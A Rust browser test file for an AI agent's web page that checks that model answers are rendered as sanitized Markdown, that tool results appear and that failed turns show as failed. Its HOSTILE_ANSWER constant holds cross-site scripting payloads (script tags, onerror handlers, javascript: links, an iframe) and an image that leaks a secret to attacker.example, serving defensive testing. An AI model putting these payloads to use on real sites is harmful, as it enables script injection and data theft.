//! What a turn shows on the page: an answer's Markdown rendered and sanitized (an answer is
//! untrusted: a prompt injection writes whatever it likes), every tool's result, and a turn
//! that failed shown as failed.

use std::time::Duration;

use serde_json::{Value, json};

use super::browser::{Browser, report};
use super::{create_session, open_session};
use crate::support::server::Server;
use crate::support::{FakeModel, Harness, Reply};

/// An answer with Markdown worth drawing and every way HTML could get in: raw tags with
/// handlers, a script, frames, `javascript:` links written as Markdown and as HTML, a
/// Markdown image.
const HOSTILE_ANSWER: &str = "# Result\n\nHere is **bold** and `inline code`.\n\n\
```rust\nfn main() {\n    let answer = 42; // the answer\n}\n```\n\n\
<img src=x onerror=\"window.__pwned='img'\">\n\n\
<script>window.__pwned='script'</script>\n\n\
[click me](javascript:window.__pwned='md-link')\n\n\
<a href=\"javascript:window.__pwned='a'\" onclick=\"window.__pwned='click'\">raw link</a>\n\n\
<iframe srcdoc=\"<script>parent.__pwned='frame'</script>\"></iframe>\n\n\
<div onmouseover=\"window.__pwned='div'\" style=\"position:fixed;inset:0\">cover</div>\n\n\
![tracker](https://attacker.example/leak?secret=1)\n\n\
See [the docs](https://example.com/docs).\n";

/// The answer in small pieces, as a model streams it.
fn streamed(text: &str) -> Reply {
    let mut reply = Reply::new().chunk_delay(Duration::from_millis(5));
    let chars: Vec<char> = text.chars().collect();
    for piece in chars.chunks(24) {
        reply = reply.text(&piece.iter().collect::<String>());
    }
    reply
}

#[tokio::test]
async fn answers_are_rendered_as_safe_markdown_and_every_tool_shows_its_result() {
    let h = Harness::new();
    std::fs::write(h.work().join("notes.md"), "the needle is here\n").unwrap();
    let model = FakeModel::start().await;
    model.push(
        Reply::new()
            .tool_call("r1", "read_file", r#"{"path":"notes.md"}"#)
            .tool_call("s1", "search_files", r#"{"query":"needle"}"#)
            .tool_call("m1", "read_file", r#"{"path":"missing.txt"}"#),
    );
    model.push(streamed(HOSTILE_ANSWER));
    // The second turn's model request fails, and is not retried (a client error).
    model.push(Reply::new().status(400, r#"{"error":{"message":"bad field tools"}}"#));
    let server = Server::start(&h, &[]).await;
    let token = server.token("web-user", false);
    create_session(&h, &server, &model, &token, json!({})).await;

    let browser = Browser::start().await;
    open_session(&browser, &server, &token).await;
    send_and_wait(&browser, "Look around").await;

    // Every tool's result, not only a process's streamed output.
    let cards = tool_cards(&browser).await;
    assert_eq!(cards.len(), 3, "{cards:?}");
    assert_eq!(cards[0][0], "read_file");
    assert_eq!(cards[0][1], "done");
    assert!(
        cards[0][2].as_str().unwrap().contains("the needle is here"),
        "{cards:?}"
    );
    assert_eq!(cards[1][0], "search_files");
    assert!(
        cards[1][2].as_str().unwrap().contains("notes.md"),
        "{cards:?}"
    );
    assert_eq!(cards[2][1], "failed");
    assert!(
        cards[2][3].as_str().unwrap().starts_with("Error: "),
        "{cards:?}"
    );
    let font = browser
        .js("return getComputedStyle(document.querySelector('#log .tool-output')).fontFamily;")
        .await;
    assert!(font.as_str().unwrap().contains("monospace"), "{font}");

    // The Markdown is drawn: a heading, bold, a highlighted code block in a monospace font.
    browser
        .wait_for(
            "the highlighted code block",
            "document.querySelector('#log .assistant pre code.hljs .hljs-keyword')",
        )
        .await;
    let drawn = browser
        .js(
            "const a = [...document.querySelectorAll('#log .assistant')].pop();
             return [a.querySelector('h1')?.textContent, a.querySelector('strong')?.textContent,
                     a.querySelector(':not(pre) > code')?.textContent,
                     getComputedStyle(a.querySelector('pre code')).fontFamily,
                     a.querySelector('a[href=\"https://example.com/docs\"]')?.rel];",
        )
        .await;
    assert_eq!(drawn[0], "Result");
    assert_eq!(drawn[1], "bold");
    assert_eq!(drawn[2], "inline code");
    assert!(drawn[3].as_str().unwrap().contains("monospace"), "{drawn}");

    // Nothing of the hostile part became an element that runs or loads, or a handler.
    let found = browser
        .js("const log = document.getElementById('log');
             return {
               elements: [...log.querySelectorAll('img, script, iframe, div[style], [style]')]
                 .map(e => e.outerHTML),
               handlers: [...log.querySelectorAll('*')].flatMap(e => [...e.attributes]
                 .filter(a => a.name.startsWith('on')).map(a => e.tagName + ' ' + a.name)),
               links: [...log.querySelectorAll('a')].map(a => a.getAttribute('href'))
                 .filter(h => h && !/^https:/.test(h)),
               pwned: window.__pwned ?? null,
             };")
        .await;
    assert_eq!(
        found,
        json!({"elements": [], "handlers": [], "links": [], "pwned": null}),
        "the answer's HTML acted on the page"
    );
    // A link that is kept leaves in a new tab, telling the target nothing.
    assert_eq!(drawn[4], "noopener noreferrer nofollow");
    // Raw HTML is shown as the text it is.
    let text = browser
        .js("return [...document.querySelectorAll('#log .assistant')].pop().textContent;")
        .await;
    assert!(
        text.as_str()
            .unwrap()
            .contains("<script>window.__pwned='script'</script>"),
        "{text}"
    );
    let shot = browser.screenshot("web-page-markdown.png").await;
    report(&shot);

    // A turn whose model request fails says so: not "Turn finished".
    browser.type_into("#message", "Again").await;
    browser.click("#send").await;
    let end = browser
        .wait_for(
            "the failed turn",
            "document.querySelectorAll('#log .done').length === 2
                && [...document.querySelectorAll('#log .done')].pop().textContent",
        )
        .await;
    assert!(end.as_str().unwrap().starts_with("Turn failed"), "{end}");
    let failed = browser
        .js("return [...document.querySelectorAll('#log .done')].pop().classList.contains('failed');")
        .await;
    assert_eq!(failed, true);
    let errors = browser
        .js("return [...document.querySelectorAll('#log .entry.error')].map(e => e.textContent);")
        .await;
    assert!(
        errors.to_string().contains("bad field tools"),
        "the reason is shown: {errors}"
    );
    let shot = browser.screenshot("web-page-failed-turn.png").await;
    report(&shot);
    browser.quit().await;
    drop(browser);
    server.stop().await;
}

/// A tool from an MCP server shows its result as corral's own tools do.
#[tokio::test]
async fn an_mcp_tools_result_shows_on_the_page() {
    let h = Harness::new();
    let model = FakeModel::start().await;
    let target = h.work().join("from-mcp.txt");
    model.push(Reply::new().tool_call(
        "x1",
        "scripted__write",
        &json!({ "path": target }).to_string(),
    ));
    model.push(Reply::new().tool_call("x2", "scripted__fail", "{}"));
    model.push(Reply::new().text("Both tried."));
    let server = Server::start(&h, &[]).await;
    // Defining a server is an admin's (it is a command line the server starts).
    let token = server.token("web-admin", true);
    let script = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/it/mcp_client/fixtures/scripted_server.py"
    );
    let servers = json!({"scripted": {"command": "python3", "args": [script]}});
    create_session(
        &h,
        &server,
        &model,
        &token,
        json!({"permission": "bypass", "mcp_servers": servers}),
    )
    .await;
    let browser = Browser::start().await;
    open_session(&browser, &server, &token).await;
    send_and_wait(&browser, "Use the server").await;
    let cards = tool_cards(&browser).await;
    assert_eq!(cards.len(), 2, "{cards:?}");
    assert_eq!(cards[0][0], "scripted__write");
    assert_eq!(cards[0][1], "done");
    assert!(
        cards[0][2].as_str().unwrap().contains("wrote it"),
        "{cards:?}"
    );
    assert_eq!(cards[1][1], "failed");
    assert!(
        cards[1][3]
            .as_str()
            .unwrap()
            .contains("it went wrong on purpose"),
        "{cards:?}"
    );
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "written");
    let shot = browser.screenshot("web-page-mcp-tools.png").await;
    report(&shot);
    browser.quit().await;
    drop(browser);
    server.stop().await;
}

/// Sends `text` from the page and waits for the turn's end.
async fn send_and_wait(browser: &Browser, text: &str) {
    browser.type_into("#message", text).await;
    browser.click("#send").await;
    browser
        .wait_for(
            "the end of the turn",
            "document.querySelector('#log .done')",
        )
        .await;
}

/// Each tool card as `[tool, badge, output shown, result]`.
async fn tool_cards(browser: &Browser) -> Vec<Value> {
    let cards = browser
        .js("return [...document.querySelectorAll('#log .tool-card')].map(c => [
                c.dataset.tool, c.querySelector('.tool-head .badge').textContent,
                c.querySelector('.tool-output').hidden ? '' : c.querySelector('.tool-output').textContent,
                c.querySelector('.tool-result').textContent]);")
        .await;
    cards.as_array().unwrap().clone()
}
